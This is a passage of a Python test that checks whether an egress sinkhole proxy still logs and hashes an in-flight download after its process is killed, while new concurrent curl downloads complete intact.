        payload.gates[path] = new_gate
        new[path] = (payload.add(path, os.urandom(20_000 + i)), f"/tmp/n{i}")
    results = {}

    def session(name, command):
        results[name] = ssh_exec(inst.port, command, timeout=120)

    try:
        first = threading.Thread(target=session, args=(
            "old", f"curl -s -o /tmp/old {old_url}; echo old=$?"))
        first.start()
        wait_for(lambda: old_path in payload.paths(), 30, what="the old sinkhole's fetch")
        pid = wait_for(lambda: sinkholes(inst), 10, what="the hermes-sinkhole child")[0]
        kill_sinkhole(inst, pid)
        # The new sinkhole's first connections (ids 1, 2, 3, as the old fetch's was, the
        # instance's first connection), all waiting for their fetches.
        gets = " ".join(f"curl -s -o {dest} {url} &" for url, dest in new.values())
        second = threading.Thread(target=session, args=(
            "new", f"{gets} wait; sha256sum {' '.join(d for _, d in new.values())}"))
        second.start()
        wait_for(lambda: all(p in payload.paths() for p in new), 30,
                 what="the new sinkhole's fetches")
        # The old fetch ends while they wait: its answer has no one to go to.
        old_gate.set()
        # Still kept and logged: the box asked for it.
        done = inst.wait_event("egress.http", url=old_url, timeout=30)
        assert done["status"] == 200, done
        kept = inst.wait_event("file.downloaded", url=old_url, timeout=10)
        assert kept["sha256"] == sha256_bytes(payload.files[old_path]), kept
    finally:
        old_gate.set()
        new_gate.set()
    first.join(60)
    second.join(60)
    out = text(results["new"])
    got = {m.group(2): m.group(1) for m in re.finditer(r"^([0-9a-f]{64})  (\S+)$", out, re.M)}
    assert got == {dest: sha256_bytes(payload.files[path]) for path, (_, dest) in new.items()}, \
        out
